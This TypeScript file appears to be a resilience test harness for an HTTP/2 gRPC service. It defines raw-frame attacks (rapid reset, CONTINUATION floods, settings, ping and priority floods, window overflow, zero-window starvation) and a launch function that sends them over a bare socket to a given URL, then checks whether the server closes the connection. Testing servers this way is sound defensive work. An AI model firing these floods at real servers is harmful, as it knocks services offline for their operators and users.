import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { endHeaders, endStream, frame, headerBlock, number, preface, setting } from "./http2-frames.ts";

// Frames that no client of good will sends, on a bare socket. Each attack writes until it has sent all, or until the
// server has had enough of it and closes the connection.

const listRuns = headerBlock("/everstep.v1.RunService/ListRuns");

function streams(count: number, each: (stream: number) => Buffer): Buffer[] {
  return Array.from({ length: count }, (_, index) => each(2 * index + 1));
}
function many(count: number, bytes: Buffer): Buffer[] {
  return Array.from({ length: count }, () => bytes);
}

export interface Attack {
  readonly name: string;
  /** Whether the server must close such a connection, or may carry it. */
  readonly mustClose: boolean;
  /** Frames to send, `size` about in all. */
  frames(size: number): Buffer[];
  /** Whether the attacker reads what the server answers. */
  readonly reads?: boolean;
}

export const attacks: readonly Attack[] = [
  {
    name: "rapid reset",
    mustClose: true,
    reads: true,
    frames: (size) =>
      streams(size, (stream) =>
        Buffer.concat([frame("headers", endHeaders, stream, listRuns), frame("resetStream", 0, stream, number(8))]),
      ),
  },
  {
    name: "provoked reset",
    mustClose: true,
    reads: true,
    // The name of a header has no capitals: the server must reset the stream itself.
    frames: (size) => {
      const block = Buffer.concat([listRuns, Buffer.from([0, 1, 0x41, 1, 0x62])]);
      return streams(size, (stream) => frame("headers", endHeaders, stream, block));
    },
  },
  {
    name: "window update of nothing",
    mustClose: true,
    frames: () => [frame("headers", endHeaders, 1, listRuns), frame("windowUpdate", 0, 1, number(0))],
  },
  {
    name: "endless header block",
    mustClose: true,
    frames: (size) => [
      frame("headers", 0, 1, listRuns),
      ...many(size, frame("continuation", 0, 1, Buffer.from([0x00, 0x01, 0x61, 0x01, 0x62]))),
    ],
  },
  {
    name: "empty continuations",
    mustClose: true,
    frames: (size) => [frame("headers", 0, 1, listRuns), ...many(size, frame("continuation", 0, 1))],
  },
  { name: "settings flood", mustClose: true, frames: (size) => many(size, frame("settings", 0, 0)) },
  { name: "ping flood", mustClose: true, frames: (size) => many(size, frame("ping", 0, 0, Buffer.alloc(8))) },
  {
    name: "window overflow",
    mustClose: true,
    frames: () => many(2, frame("windowUpdate", 0, 0, number(0x7fff_ffff))),
  },
  {
    name: "priority flood",
    mustClose: false,
    frames: (size) => many(size, frame("priority", 0, 1, Buffer.from([0, 0, 0, 0, 1]))),
  },
  {
    name: "empty data",
    mustClose: false,
    frames: (size) => [frame("headers", endHeaders, 1, listRuns), ...many(size, frame("data", 0, 1))],
  },
  {
    name: "no window for answers",
    mustClose: false,
    frames: (size) => [
      frame("settings", 0, 0, setting(4, 0)),
      ...streams(Math.min(size, 2_000), (stream) =>
        Buffer.concat([
          frame("headers", endHeaders, stream, listRuns),
          frame("data", endStream, stream, Buffer.from("{}")),
        ]),
      ),
    ],
  },
  { name: "preface only", mustClose: false, frames: () => [] },
  {
    name: "garbage",
    mustClose: true,
    frames: () => [Buffer.from(Array.from({ length: 4_096 }, (_, index) => (index * 89) % 251))],
  },
];

export interface Attacked {
  readonly closed: boolean;
  /** The server was there, and has been sent all of it, or has closed the connection before. */
  readonly landed: boolean;
}

/** Sends an attack, then waits up to `patienceMs` for the server to close. */
export async function launch(url: string, attack: Attack, size: number, patienceMs: number): Promise<Attacked> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  let connected = false;
  let closed = false;
  socket.on("connect", () => {
    connected = true;
  });
  socket.on("error", () => {});
  socket.on("close", () => {
    closed = true;
  });
  // Nothing is read: what the server answers piles up on its side.
  if (attack.reads === true) socket.resume();
  else socket.pause();
  await write(socket, Buffer.concat([preface, frame("settings", 0, 0)]), () => closed);
  const frames = attack.frames(size);
  let at = 0;
  for (; at < frames.length && !closed; at += 512) {
    await write(socket, Buffer.concat(frames.slice(at, at + 512)), () => closed);
  }
  // A half-closed connection is seen only by who reads on.
  socket.resume();
  const endsAtMs = performance.now() + patienceMs;
  while (!closed && performance.now() < endsAtMs) await pause(20);
  // What the socket still holds back has not been sent.
  const sentAll = at >= frames.length && socket.writableLength === 0;
  socket.destroy();
  return { closed, landed: connected && (closed || sentAll) };
}

async function write(socket: Socket, bytes: Buffer, over: () => boolean): Promise<void> {
  if (over() || socket.write(bytes)) return;
  await Promise.race([
    new Promise<void>((resolve) => socket.once("drain", resolve).once("close", resolve)),
    // A server that takes nothing any more: the attack has sent what it could.
    pause(2_000, undefined, { ref: false }),
  ]);
}
